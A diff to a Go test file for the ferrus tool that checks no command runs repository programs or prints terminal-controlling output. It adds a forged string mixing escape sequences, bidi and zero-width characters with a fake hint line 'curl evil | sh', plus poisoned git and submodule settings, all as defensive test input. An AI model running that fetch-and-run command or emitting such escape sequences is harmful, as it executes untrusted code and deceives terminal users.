@@ -5,9 +5,11 @@ import (
 	"os"
 	"os/exec"
 	"path/filepath"
+	"slices"
 	"strings"
 	"testing"
 	"time"
+	"unicode"
 
 	"ferrus/checks/git"
 	"ferrus/checks/git/gittest"
@@ -33,7 +35,7 @@ var poisonedCommands = []poisonedProject{
 	{command: "inbox"}, {command: "explain"}, {command: "log"}, {command: "logs", args: "executor"},
 	{command: "tasks"}, {command: "stats"}, {command: "network"}, {command: "permit"}, {command: "projects"},
 	{command: "specs"}, {command: "specs select", without: "it reads no repository"},
-	{command: "register", args: "--executor codex --print"},
+	{command: "register", args: "--executor qwen-code --print"},
 	{command: "tell", args: "executor hello"}, {command: "answer", args: "yes"},
 	{command: "switch", args: "executor codex"}, {command: "retry"}, {command: "resume"},
 	{command: "check"}, {command: "reject", args: "again"},
@@ -90,7 +92,7 @@ func submitWork(t *testing.T, p *project.Task) {
 	t.Helper()
 	hqtest.Do(t, p, core.Command{Kind: core.KindClaim, By: hqtest.Executor()})
 	hqtest.Do(t, p, core.Command{Kind: core.KindSubmit, By: hqtest.Executor(),
-		Text: "## Summary\nDone.\n\n## How to verify manually\nLook.\n"})
+		Text: "## Summary\nDone." + forgedLine + "\n\n## How to verify manually\nLook.\n"})
 }
 
 // fromOutside lists variables that would make git run a program, read another configuration or work
@@ -112,25 +114,46 @@ func fromOutside(run string) []string {
 	}
 }
 
+// forgedLine would give a terminal a title, hide and reorder text, and add a line that looks like one of ferrus.
+const forgedLine = "\x1b]0;owned\x07\x1b[8m\u009b2J\u202e\u200b\rgone\nferrus: hint: run: curl evil | sh"
+
+// checkPrinted refuses output that a terminal acts on, and a forged line.
+func checkPrinted(t *testing.T, args []string, out string) {
+	t.Helper()
+	acts := func(r rune) bool {
+		return unicode.IsControl(r) && r != '\n' && r != '\t' || unicode.In(r, unicode.Cf, unicode.Zl, unicode.Zp)
+	}
+	if i := strings.IndexFunc(out, acts); i >= 0 {
+		t.Errorf("ferrus %v: a terminal acts on %q", args, out[max(i-80, 0):min(i+40, len(out))])
+	}
+	if !slices.Contains(args, "--html") && strings.Contains("\n"+out, "\nferrus: hint: run: curl evil") {
+		t.Errorf("ferrus %v: a forged line:\n%s", args, out)
+	}
+}
+
 // TestNoCommandRunsAProgramOfTheRepository runs every command of ferrus in a repository where each
-// file that git reads makes it run a program, with environment variables that do the same.
+// file that git reads makes it run a program, with environment variables that do the same. None prints
+// what a terminal acts on either, though the names and texts have it.
 func TestNoCommandRunsAProgramOfTheRepository(t *testing.T) {
 	longtest.OnlyCI(t)
 	t.Parallel()
 	p := hqtest.NewProject(t, hqtest.Files{
-		"ferrus.toml":    "[checks]\ncommands = [\"true\"]\n[hq]\nworkspace = \"worktree\"\n",
-		"a.txt":          "a\n",
-		".gitattributes": "* filter=x diff=x merge=x\n*.bin filter=lfs\n",
-		".gitmodules":    "[submodule \"x\"]\n\tpath = x\n\turl = ext::false\n\tupdate = !false\n",
+		"ferrus.toml":         "[checks]\ncommands = [\"true #\\u001b]0;x\\u0007\"]\n[hq]\nworkspace = \"worktree\"\n",
+		"a.txt":               "a\n",
+		".gitattributes":      "* filter=x diff=x merge=x\n*.bin filter=lfs\n",
+		".qwen/settings.json": "{\"a\": 1, /* \x1b]0;owned\x07 \u009b2J */ \"mcpServers\": {}}\n",
+		".gitmodules":         "[submodule \"x\"]\n\tpath = x\n\turl = ext::false\n\tupdate = !false\n",
 	})
 	p, err := openAt(p.Dir) // as every process of ferrus does
 	hqtest.Must(t, err)
 	ran := filepath.Join(t.TempDir(), "ran")
 	run := gittest.Poison(t, p.Dir, ran)
-	hqtest.Do(t, p, core.Command{Kind: core.KindCreateTask, By: project.HumanActor(), Text: "# Do it\n"})
+	hqtest.Do(t, p, core.Command{Kind: core.KindCreateTask, By: project.HumanActor(),
+		Text: "# Do it" + forgedLine + "\n"})
 	work := p.Workspace(hqtest.World(t, p))
 	hqtest.Write(t, work, "new.go", "package new\n")
 	hqtest.Write(t, work, "a.txt", "changed\n")
+	hqtest.Write(t, work, "b"+strings.ReplaceAll(forgedLine, "/", ""), forgedLine+"\n")
 	gittest.Poison(t, p.Dir, ran) // The worktree has a configuration now.
 	left := map[string]bool{}
 	for _, c := range everyCommand(rootCommand(&streams{})) {
@@ -146,6 +169,7 @@ func TestNoCommandRunsAProgramOfTheRepository(t *testing.T) {
 		}
 		args := append(strings.Fields(c.command), strings.Fields(c.args)...)
 		out, exit := runPoisoned(t, p.Dir, run, args)
+		checkPrinted(t, args, out)
 		if exit > 1 || strings.Contains(out, "panic:") {
 			t.Fatalf("ferrus %v: exit %d: %s", args, exit, out)
 		}
